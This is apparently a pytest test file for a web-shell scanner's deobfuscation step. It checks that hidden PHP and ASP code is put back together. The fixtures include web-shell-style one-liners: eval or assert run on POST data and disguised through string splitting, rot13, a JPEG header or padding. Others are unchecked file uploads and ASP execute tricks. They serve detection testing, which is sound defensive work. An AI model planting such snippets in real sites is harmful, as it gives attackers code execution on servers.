"""Which scripts are put together again, and what the rules see of them."""

import pytest

from scanner.detection.scripts.asp import plain_asp
from scanner.detection.scripts.encoded import decoded
from scanner.detection.scripts.plain import plain_views
from scanner.detection.scripts.reader import READER
from scanner.detection.unpack.views import View
from scanner.domain.findings import Layer

SCRIPT = frozenset({"script"})
# `MsgBox "hi"` as the script encoder writes it: the format's tables turn it back.
ENCODED = b"#@~^CwAAAA==\x4dko$K6,Jtk" + b"EQwMAAA==^#~@"


def _views(data: bytes, layer: Layer = Layer.RAW) -> list[View]:
    return list(plain_views(View("", data, "script", SCRIPT, layer=layer)))


def test_a_hidden_name_gives_a_plain_view() -> None:
    (view,) = _views(b"<?php $f='as'.'sert'; $f($_POST['x']);")
    assert (view.path, view.reader, view.offset) == ("(plain script)", READER, None)
    assert b"assert($_POST['x'])" in view.data


@pytest.mark.parametrize(
    "data",
    [
        b"<?php echo htmlspecialchars($_GET['q']); $this->$method($_POST['x']);",
        b"<html><script>var f = a['b'](c);</script></html>",
        b"plain text with eval( and $_POST",
        b"",
    ],
)
def test_ordinary_scripts_give_no_further_view(data: bytes) -> None:
    assert _views(data) == []


def test_text_that_was_taken_out_of_a_document_is_no_script() -> None:
    assert _views(b"<?php $f='as'.'sert'; $f($_POST['x']);", Layer.TEXT) == []


@pytest.mark.parametrize(
    ("page", "shown"),
    [
        (b'<% execute("ev"&"al"&chr(32)&"x") %>', b'"eval x"'),
        (b'<% x="e0v0al(1)"\nx=replace(x,"0","")\nexecute x %>', b"execute(eval(1))"),
        (b'<% f=request("path")\nset t=fs.CreateTextFile(f,True) %>', b'CreateTextFile(request("path")'),
        (b'<% y=strreverse("tseuqer") : execute y & "chr(1)" %>', b'"request"'),
    ],
)
def test_asp_is_put_together(page: bytes, shown: bytes) -> None:
    assert shown in (plain_asp(page) or b"")


def test_an_object_that_executes_a_statement_is_left_alone() -> None:
    assert plain_asp(b'<% sql=request("q")\nconn.execute sql & "x" %>') is None


def test_encoded_script_is_decoded_and_the_rest_kept() -> None:
    page = decoded(b"<%" + ENCODED + b"%>")
    assert page.startswith(b"<%")
    assert page.endswith(b"%>")
    assert b"#@~^" not in page


def test_an_encoded_block_without_an_end_is_decoded_as_far_as_it_goes() -> None:
    assert b"#@~^" not in decoded(b"#@~^CwAAAA==abc")


def test_bytes_of_two_byte_letters_are_read_both_ways() -> None:
    assert decoded(b"#@~^CwAAAA==\xb0\x41bcQwMAAA==^#~@").count(b"\xb0\x41") == 1


def test_a_script_behind_a_picture_is_put_together_from_where_it_begins() -> None:
    picture = b"\xff\xd8\xff\xe0\0\x10JFIF\0<?\"'(\0" + b"\x80\xf0'\"(<?" * 40
    (view,) = _views(picture + b"<?php ($b=$_POST['c']) && preg_replace('/ad/e','@'.str_rot13('riny').'($b)','add');?>")
    assert b"@eval($b)" in view.data
    assert b"JFIF" not in view.data


def test_an_upload_whose_call_is_torn_by_a_comment_is_put_together() -> None:
    (view,) = _views(b"<?php move_uploaded_file/*;*/($_FILES['f']['tmp_name'], $_FILES['f']['name']);")
    assert b"move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name'])" in view.data


def test_a_script_behind_very_many_blanks_is_shown_without_them() -> None:
    bare, *_ = _views(b" \n" * 500_000 + b"<?php echo 1;")
    assert bare.data == b"<?php echo 1;"
    assert _views(b" " * 4_000 + b"<?php echo 1;") == []
    assert _views(b" " * 9_000) == []
